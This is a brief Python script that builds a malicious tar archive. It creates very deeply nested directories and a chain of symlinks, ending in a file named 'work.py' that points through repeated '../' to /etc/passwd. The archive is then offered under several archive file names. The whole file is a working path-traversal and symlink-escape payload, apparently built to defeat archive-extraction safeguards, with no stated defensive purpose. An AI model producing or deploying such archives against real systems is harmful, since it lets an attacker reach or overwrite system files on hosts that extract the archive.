import io
import tarfile

buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w") as archive:
    deep = "d" * 200
    for number in range(16):
        folder = tarfile.TarInfo("/".join([deep] * (number + 1)))
        folder.type = tarfile.DIRTYPE
        archive.addfile(folder)
    for name, target in (("a", deep), ("b", "a/" + "../" * 20), ("work.py", "b/etc/passwd")):
        link = tarfile.TarInfo(name)
        link.type, link.linkname = tarfile.SYMTYPE, target
        archive.addfile(link)
FILES = {name: buffer.getvalue() for name in ("work.tar", "work.tar.gz", "work.tgz", "work.7z", "work.rar")}
